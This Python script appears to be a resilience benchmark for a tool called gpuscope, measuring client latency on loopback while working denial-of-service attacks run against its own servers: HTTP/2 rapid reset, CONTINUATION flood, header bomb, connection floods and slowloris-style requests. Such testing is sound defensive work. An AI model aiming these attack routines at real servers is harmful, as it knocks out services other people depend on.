#!/usr/bin/python3
"""What honest clients feel while others attack: the latency of a call of a head's gRPC port and of an
agent's /healthz, each on a new connection, at rest and beside each attack, from the same address as
the attacker, who therefore shares its places. Where the machine is not idle, look at the ratios: rest
is measured again before each attack.

usage: attacks.py GPUSCOPE [--seconds S] [ATTACK...]
"""

import argparse
import multiprocessing
import os
import resource
import select
import signal
import socket
import struct
import subprocess
import tempfile
import time

HELLO = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + bytes((0, 0, 0, 4, 0, 0, 0, 0, 0))
TIMEOUT_S = 5.0


def frame(kind, flags, stream, payload):
    return struct.pack('>I', len(payload))[1:] + bytes((kind, flags)) + struct.pack('>I', stream) + payload


def field(name, value):
    """A literal that goes into no table (HPACK); lengths below 127."""
    return bytes((0, len(name))) + name + bytes((len(value),)) + value


REQUEST = (
    bytes((0x83, 0x86)) + field(b':authority', b'localhost') + field(b':path', b'/gpuscope.v1.Control/ListSessions')
    + field(b'content-type', b'application/grpc') + field(b'te', b'trailers')
)  # fmt: skip


def connect(port, source=1):
    # Each source has ports of its own; for the server all of 127/8 is one address.
    return socket.create_connection(('127.0.0.1', port), TIMEOUT_S, (f'127.0.0.{source}', 0))


# --- honest clients ---


def call_grpc(port):
    with connect(port) as s:
        s.sendall(HELLO + frame(1, 4, 1, REQUEST) + frame(0, 1, 1, bytes(5)))
        got = b''
        while True:
            piece = s.recv(65536)
            if not piece:
                raise ConnectionError('closed')
            got += piece
            at = 0
            while at + 9 <= len(got):
                size, kind, flags = int.from_bytes(got[at : at + 3], 'big'), got[at + 3], got[at + 4]
                if kind == 1 and flags & 1 and at + 9 + size <= len(got):
                    return
                if kind == 3:
                    raise ConnectionError('reset')
                at += 9 + size


def call_http(port):
    with connect(port) as s:
        s.sendall(b'GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n')
        if not s.recv(4096).startswith(b'HTTP/1.1 200 '):
            raise ConnectionError('no answer')


def measure(call, port, seconds):
    """Milliseconds of each call, sorted, and how many had none."""
    times, failed, until = [], 0, time.monotonic() + seconds
    while time.monotonic() < until:
        begin = time.monotonic()
        try:
            call(port)
            times.append((time.monotonic() - begin) * 1000)
        except OSError:
            failed += 1
        time.sleep(0.005)
    return sorted(times), failed


# --- attacks: each runs until it is killed, and connects again whenever it is closed ---


def again(port, source, session):
    while True:
        try:
            with connect(port, source) as s:
                session(s)
        except OSError:
            pass


def header_bomb(port, source):
    first = bytes((0x83, 0x86)) + field(b':authority', b'localhost') + field(b':path', b'/gpuscope.v1.Node/Link')
    entry = b'\x40\x01a\x7f' + bytes(((3900 - 127) & 127 | 128, (3900 - 127) >> 7)) + b'z' * 3900
    block = first + entry
    block += b'\xbe' * (16384 - len(block))

    def session(s):
        s.sendall(HELLO)
        for i in range(1000):
            s.sendall(frame(1, 5, 1 + 2 * i, block))

    again(port, source, session)


def rapid_reset(port, source):
    def session(s):
        s.sendall(HELLO)
        stream = 1
        while True:
            s.sendall(b''.join(frame(1, 4, stream + 2 * i, REQUEST) + frame(3, 0, stream + 2 * i, bytes((0, 0, 0, 8))) for i in range(500)))
            stream += 1000

    again(port, source, session)


def continuations(port, source):
    many = frame(9, 0, 1, b'') * 1000 + frame(9, 0, 1, field(b'a', b'z' * 100) * 150) * 4

    def session(s):
        s.sendall(HELLO + frame(1, 0, 1, REQUEST))
        while True:
            s.sendall(many)

    again(port, source, session)


def hold(port, source, n, first):
    """n connections on which something is sent and nothing more, opened again when they are closed."""
    poll, held = select.epoll(), {}
    while True:
        while len(held) < n:
            try:
                s = connect(port, source)
                s.sendall(first)
            except OSError:
                break
            held[s.fileno()] = s
            poll.register(s.fileno(), select.EPOLLIN | select.EPOLLRDHUP)
            if len(held) % 100 == 0:
                break
        for fd, _ in poll.poll(0.001):
            try:
                closed = not held[fd].recv(65536)
            except OSError:
                closed = True
            if closed:
                poll.unregister(fd)
                held.pop(fd).close()


def silent(port, source):
    hold(port, source, 5000, b'')


def greetings(port, source):
    hold(port, source, 8500, HELLO)


def slow_requests(port, source):
    hold(port, source, 45, b'GET /metrics HTTP/1.1\r\nHost: loc')


ATTACKS = {  # what, of which port, in how many processes
    'header bomb': (header_bomb, 'head', 4),
    'rapid reset': (rapid_reset, 'head', 2),
    'CONTINUATION flood': (continuations, 'head', 2),
    '10,000 silent connections': (silent, 'head', 2),
    '17,000 greetings': (greetings, 'head', 2),
    '90 slow requests': (slow_requests, 'agent', 2),
    '10,000 silent connections (HTTP)': (silent, 'agent', 2),
}


class Server:
    def __init__(self, call, *command):
        self.call = call
        with socket.socket() as s:
            s.bind(('127.0.0.1', 0))
            self.port = s.getsockname()[1]
        self.proc = subprocess.Popen([c.replace('PORT', str(self.port)) for c in command], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        for _ in range(200):
            try:
                call(self.port)
                return
            except OSError:
                time.sleep(0.05)
        raise SystemExit(f'{command[1]} does not answer')

    def cpu_s(self):
        with open(f'/proc/{self.proc.pid}/stat') as f:
            fields = f.read().rpartition(')')[2].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf('SC_CLK_TCK')

    def peak_mib(self):
        with open(f'/proc/{self.proc.pid}/status') as f:
            return next(int(line.split()[1]) for line in f if line.startswith('VmHWM')) / 1024

    def forget_peak(self):
        with open(f'/proc/{self.proc.pid}/clear_refs', 'w') as f:
            f.write('5')

    def stop(self):
        self.proc.send_signal(signal.SIGTERM)
        self.proc.wait(timeout=30)


def at(times, share):
    return times[min(len(times) - 1, int(len(times) * share))] if times else float('inf')


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument('gpuscope')
    parser.add_argument('--seconds', type=float, default=8, help='each of rest and attack (8)')
    parser.add_argument('attack', nargs='*', help='those whose name contains one of these (all)')
    args = parser.parse_args()
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    with tempfile.TemporaryDirectory() as folder:
        command = (args.gpuscope, 'head', '--data', folder, '--listen', '127.0.0.1:PORT', '--http-port', '0')
        servers = {
            'head': Server(call_grpc, *command),
            'agent': Server(call_http, args.gpuscope, 'agent', '--listen', '127.0.0.1:PORT', '--control', ''),
        }
        print('| attack | of | answered | p50, ms | p99, ms | p50, at rest | p99, at rest | p99 ratio | server, cores | peak, MiB |')
        print('| --- | --- | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: |')
        for name, (attack, which, n) in ATTACKS.items():
            if args.attack and not any(a in name for a in args.attack):
                continue
            s = servers[which]
            rest, _ = measure(s.call, s.port, args.seconds)
            attackers = [multiprocessing.Process(target=attack, args=(s.port, 2 + i), daemon=True) for i in range(n)]
            for a in attackers:
                a.start()
            time.sleep(2)
            s.forget_peak()
            cpu, begin = s.cpu_s(), time.monotonic()
            times, failed = measure(s.call, s.port, args.seconds)
            cores = (s.cpu_s() - cpu) / (time.monotonic() - begin)
            for a in attackers:
                a.kill()
                a.join()
            print(f'| {name} | {which} | {len(times)} of {len(times) + failed} | {at(times, 0.5):.1f} | {at(times, 0.99):.1f} | '
                  f'{at(rest, 0.5):.1f} | {at(rest, 0.99):.1f} | {at(times, 0.99) / at(rest, 0.99):.1f} | {cores:.2f} | {s.peak_mib():.0f} |', flush=True)  # fmt: skip
            time.sleep(1)
        for s in servers.values():
            s.stop()


if __name__ == '__main__':
    main()
